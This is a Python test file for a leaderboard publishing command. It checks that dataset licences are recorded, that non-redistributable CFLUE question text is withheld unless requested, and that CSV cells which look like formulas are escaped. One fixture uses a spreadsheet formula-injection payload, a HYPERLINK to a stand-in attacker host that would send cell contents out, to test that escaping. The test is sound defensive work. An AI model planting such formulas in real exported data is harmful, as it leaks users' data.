"""`finchain leaderboard publish` and the data's licences (issue 31, item 8), and the CSV a spreadsheet opens
(issue 33, item 8): each task's licence comes from ``data/licenses.yaml``, never a fixed ``license: mit``; the
question and gold text of a task whose licence forbids redistributing it (CFLUE, CC BY-NC-SA 4.0) stays out of
the site and the release unless asked, and the command says so; a model name that starts like a formula is
written as text. The CFLUE lines are made up here (tests/leaderboard/handmade.py), never CFLUE's own."""

import csv

import pandas as pd
import pytest
import yaml
from typer.testing import CliRunner

from finchain_tasks.cli.main import app
from finchain_tasks.leaderboard.board import TASKS
from finchain_tasks.leaderboard.publish import csv_cell, data_licenses
from tests.leaderboard import sitedata
from tests.leaderboard.handmade import board_file, cflue_sample, finchain_sample, write_lm_eval

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'  # no comma: lm-eval's model_args split on commas


@pytest.fixture(scope="module")
def sources(tmp_path_factory):
    root = tmp_path_factory.mktemp("licence-src")
    write_lm_eval(root / "runs" / "cflue", "some-model", "cflue_knowledge",
                  [cflue_sample(k, k % 3 > 0) for k in range(6)])
    write_lm_eval(root / "runs" / "fin", FORMULA, "finchain_all", [finchain_sample(k, 0.5) for k in range(4)])
    return root / "runs"


def _publish(sources, tmp_path, tasks, *extra):
    board = board_file(tmp_path / "b", "lic", tasks=tasks, metrics=("accuracy",) if tasks == ("cflue",) else
                       ("chaineval",))
    to = tmp_path / "pub"
    result = CliRunner().invoke(app, ["leaderboard", "publish", str(board), "-s", str(sources), "--models", "all",
                                      "--to", str(to), *extra])
    assert result.exit_code == 0, result.output
    (release,) = (to / "data").iterdir()
    card = release.read_text() if release.is_file() else (release / "README.md").read_text("utf-8")
    meta = yaml.safe_load(card.split("---")[1])
    return " ".join(result.output.split()), to, release, card, meta


def test_restricted_text_stays_out_unless_asked_and_the_command_says_so(sources, tmp_path):
    said, to, release, card, meta = _publish(sources, tmp_path, ("cflue",))
    assert "left out: question and gold text of 6 cflue sample(s) (CC BY-NC-SA 4.0)" in said
    assert "--include-restricted-text" in said
    assert meta["license"] == "mit"  # what the release holds is the project's own: scores and outputs
    assert "[CC BY-NC-SA 4.0](https://creativecommons.org/licenses/by-nc-sa/4.0/)" in card
    assert "questions and gold text left out" in card
    everything = "".join(p.read_bytes().decode("utf-8", "replace") for p in to.rglob("*") if p.is_file())
    assert "HANDMADE QUESTION" not in everything  # not in the site's sample chunks, not in the release
    samples = pd.read_parquet(release / "samples.parquet")
    assert samples["question"].isna().all() and len(samples) == 6 and samples["output"].str.contains("答案").all()
    assert samples["prompt"].isna().all()  # the prompt sent holds the question
    shown = sitedata.samples(to)
    assert all(s["question"] is None and "CC BY-NC-SA 4.0" in s["withheld"] for s in shown.values())

    said, to, release, card, meta = _publish(sources, tmp_path / "asked", ("cflue",), "--include-restricted-text")
    assert "included, as asked: question and gold text of 6 cflue sample(s) (CC BY-NC-SA 4.0)" in said
    assert meta["license"] == ["mit", "cc-by-nc-sa-4.0"]
    asked = pd.read_parquet(release / "samples.parquet")
    assert asked["question"].str.startswith("HANDMADE QUESTION").all()
    assert asked["prompt"].str.contains("HANDMADE QUESTION").all()


def test_a_redistributable_task_publishes_its_text_under_its_own_licence(sources, tmp_path):
    said, to, release, card, meta = _publish(sources, tmp_path, ("finchain",))
    assert "left out" not in said and meta["license"] == "mit"
    assert "`finchain`: [MIT](https://opensource.org/license/mit)" in card and "text included" in card
    assert pd.read_parquet(release / "samples.parquet")["question"].str.startswith("What is").all()
    # the model's name came from a log: a spreadsheet shows it as text, not as a live formula
    rows = list(csv.DictReader((release / "leaderboard.csv").open(encoding="utf-8")))
    assert [r["model"] for r in rows] == ["'" + FORMULA] and float(rows[0]["chaineval"]) == 0.5


def test_every_task_has_a_recorded_licence_and_formula_cells_are_text():
    licences = data_licenses(TASKS)
    assert {t: lic.redistribute for t, lic in licences.items()} == {"finchain": True, "cflue": False,
                                                                   "cflue_application": False}
    with pytest.raises(ValueError, match="no data licence recorded for task.*nope"):
        data_licenses(("nope",))
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("plain") == "plain" and csv_cell(-1.5) == -1.5 and csv_cell(None) is None
